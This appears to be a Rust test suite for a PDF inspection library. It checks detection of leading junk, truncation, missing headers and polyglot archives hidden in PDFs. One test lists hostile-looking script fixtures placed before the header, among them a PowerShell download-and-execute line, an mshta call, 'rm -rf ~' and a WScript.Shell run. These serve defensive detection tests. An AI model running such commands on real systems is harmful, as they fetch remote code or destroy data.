use super::{look, one_page};
use crate::{Active, Damage, Kind, Limits, inspect, samples};

#[track_caller]
fn check(bytes: &[u8], kind: Kind, damage: Option<Damage>) {
    let report = inspect(bytes, &Limits::default());
    assert_eq!((report.kind, report.damage), (kind, damage));
}

fn after(junk: &[u8]) -> Vec<u8> {
    [junk, &samples::pdf("Bonjour")].concat()
}

#[test]
fn a_whole_pdf_is_sound() {
    check(&samples::pdf("Bonjour"), Kind::Pdf, None);
}

#[test]
fn blank_before_the_header_is_harmless() {
    check(&after(b"\xEF\xBB\xBF\r\n \0\0"), Kind::Pdf, None);
}

#[test]
fn junk_before_the_header_is_damage() {
    check(&after(b"MQ\x90\0"), Kind::Pdf, Some(Damage::LeadingJunk));
    check(&after(&[0x80; 7]), Kind::Pdf, Some(Damage::LeadingJunk));
}

#[test]
fn markup_and_scripts_before_the_header_are_damage() {
    for junk in [
        "x\r\n@echo off\r\nstart calc\r\n",
        "Content-Type: text/html\r\n\r\n<script src=x>",
        "text <?php system(1);",
        "var a = 1 /*",
        "function f() {",
        "\nimport os\n",
        "Start-Process calc\r\n",
        "iex (New-Object Net.WebClient).DownloadString('http://a')\r\n",
        "alert(1);\n",
        "window.location = 'http://a'\n",
        "CreateObject(\"WScript.Shell\").Run \"calc\"\r\n",
        "start calc.exe\r\n",
        "calc.exe & exit\r\n",
        "rm -rf ~\n",
        "mshta http://a\r\n",
        "use strict;\nsystem 'x';\n",
        "x\n[InternetShortcut]\r\nURL=file://h/s\r\n",
        "ID;P\nC;X1;Y1;E1\n",
        "x=$(id)\n",
    ] {
        check(&after(junk.as_bytes()), Kind::Pdf, Some(Damage::LeadingJunk));
    }
}

#[test]
fn printable_lines_before_the_header_are_harmless() {
    for banner in [
        "GPL Ghostscript 10.00.0 (2022-09-21)\nCopyright (C) 2022 Artifex Software, Inc.\n",
        "HTTP/1.1 200 OK\r\nSet-Cookie: a=b; path=/\r\nContent-Type: application/pdf\r\n\r\n",
        "MIME-Version: 1.0\r\nContent-Type: application/pdf; name=\"cv.pdf\"\r\n\
         Message-ID: <a.b@example.org>\r\n\r\n",
        "HTTP/1.1 200 OK\r\nContent-Type: application/pdf\r\n\r\n",
        "On Mon, 3 Mar 2025 at 10:00, Ada wrote:\nPlease find my CV.\n",
        "Start of document\nPrint job 17 of 20\nSet 1\n",
        "If you cannot read this file, call me.\n",
        "Warning: font Arial (bold) not found on page(s) 1\n",
        "Content-Disposition: attachment;\r\n filename=\"cv.pdf\"\r\n\r\n",
        "R\u{e9}sum\u{e9}\n",
        "\x1B%-12345X@PJL JOB\r\n@PJL SET RESOLUTION=600\r\n@PJL ENTER LANGUAGE=PDF\r\n",
    ] {
        check(&after(banner.as_bytes()), Kind::Pdf, None);
    }
    check(&after(b"R\xE9sum\xE9\n"), Kind::Pdf, None);
}

#[test]
fn a_header_counts_within_the_first_1024_bytes() {
    check(&after(&[b' '; 1023]), Kind::Pdf, None);
    check(&after(&[b' '; 1024]), Kind::Unknown, None);
}

#[test]
fn what_begins_as_something_else_is_that() {
    check(&after(b"MZ\x90\0"), Kind::Executable, None);
    check(&after(b"\x7FELF"), Kind::Executable, None);
    check(&after(b"#!/bin/sh\nexit\n"), Kind::Executable, None);
    check(&after(b"@echo off\r\ncalc\r\n"), Kind::Executable, None);
    check(&after(b"[InternetShortcut]\r\nURL=file://h\r\n"), Kind::Executable, None);
    check(&after(b"GIF89a"), Kind::Image, None);
    check(&after(b"<html><!--"), Kind::Html, None);
    check(&after(b"PK\x03\x04"), Kind::Zip, Some(Damage::Truncated));
}

#[test]
fn a_pdf_without_its_end_is_truncated() {
    let whole = samples::pdf("Bonjour");
    let half = &whole[..whole.len() / 2];
    check(half, Kind::Pdf, Some(Damage::Truncated));
}

#[test]
fn a_little_after_the_end_is_harmless() {
    for (blank, length) in [(0, 18_000), (b' ', 40_000), (b'\n', 100_000)] {
        let padded = [samples::pdf("Bonjour"), vec![blank; length]].concat();
        check(&padded, Kind::Pdf, None);
    }
}

#[test]
fn an_end_far_from_the_end_does_not_count() {
    // A linearised PDF has an end mark near its beginning too.
    let limits = Limits::default();
    let padded = [samples::pdf("Bonjour"), vec![b'x'; limits.pdf_tail_bytes]].concat();
    check(&padded, Kind::Pdf, Some(Damage::Truncated));
}

#[test]
fn a_zip_behind_the_pdf_is_a_polyglot() {
    let both = [samples::pdf("Bonjour"), samples::docx("Bonjour")].concat();
    check(&both, Kind::Pdf, Some(Damage::Polyglot));
    for suffix in ["\0\0\0\0", "\nendstream\nendobj\nstartxref\n9\n%%EOF\n"] {
        let more = [&both, suffix.as_bytes()].concat();
        check(&more, Kind::Pdf, Some(Damage::Polyglot));
    }
}

#[test]
fn a_zip_attached_inside_a_pdf_is_none() {
    let inside = one_page().with_stream("", &samples::docx("Bonjour")).finish();
    check(&inside, Kind::Pdf, None);
}

#[test]
fn a_pdf_without_its_header_is_one_that_some_cannot_open() {
    for header in ["%PDF1.4", "%", "%PDF.1.4"] {
        let whole = samples::pdf("Bonjour");
        let headless = [header.as_bytes(), &whole["%PDF-1.4".len()..]].concat();
        check(&headless, Kind::Pdf, Some(Damage::NoHeader));
    }
    check(b"% 50 startxref\n", Kind::Text, None);
}

#[test]
fn a_pdf_without_pages_is_damaged() {
    let empty = b"%PDF-1.7\nstartxref\n0\n%%EOF\n";
    check(empty, Kind::Pdf, Some(Damage::NoPages));
}

#[test]
fn an_archive_of_another_format_around_a_pdf() {
    let file = one_page().finish();
    for mark in [b"Rar!\x1A\x07\x01\0".as_slice(), b"7z\xBC\xAF\x27\x1C\0\x04", b"MSCF\0\0\0\0"] {
        let behind = [&file, mark, b"packed"].concat();
        let comment = [b"%PDF-1.7\n%", mark, b"\n", &file[9..]].concat();
        for polyglot in [behind, comment] {
            assert_eq!(look(&polyglot).damage, Some(Damage::Polyglot));
        }
        // In a stream too, and where a program before it would be long; a decoy before it hides nothing.
        let inside = one_page().with_stream("", &[b"0 0 m ", mark].concat()).finish();
        let long = one_page().with_stream("", &vec![b' '; 100_000]).finish();
        let tail = [b"packed".as_slice(), &vec![b' '; 100_000], b"%%EOF\n"].concat();
        let far = [&long, mark, &tail].concat();
        let decoy = one_page().with_stream("", b"MSCF\0\0\0\0").finish();
        for polyglot in [inside, far, [&decoy, mark].concat()] {
            assert_eq!(look(&polyglot).damage, Some(Damage::Polyglot));
        }
    }
}

#[test]
fn a_zip_in_a_stream_is_one_that_is_looked_into() {
    let zip = samples::docx("Bonjour");
    assert_eq!(look(&one_page().with_stream("", &zip).finish()).damage, None);
    for (entries, data) in [
        ("", [b"x", zip.as_slice()].concat()),
        ("/Subtype /XML", [b"<x/>", zip.as_slice()].concat()),
        ("/Filter /FlateDecode", zip.clone()),
        ("/Filter []", zip.clone()),
    ] {
        let file = one_page().with_stream(entries, &data).finish();
        assert_eq!(look(&file).damage, Some(Damage::Polyglot), "{entries}");
    }
    let program = samples::zip(&[("setup.exe", "x")]);
    for entries in ["", "/Type /XObject /Subtype /Image", "/Type /Metadata"] {
        let file = one_page().with_stream(entries, &program).finish();
        assert!(look(&file).active.contains(&Active::Program), "{entries}");
    }
}

#[test]
fn a_program_in_postscript_before_the_header() {
    for line in ["%!", "%!PS-Adobe-3.0", "(w) file\n%!PS"] {
        let file = [line.as_bytes(), b"\n", &one_page().finish()].concat();
        assert_eq!(look(&file).damage, Some(Damage::LeadingJunk), "{line}");
    }
}
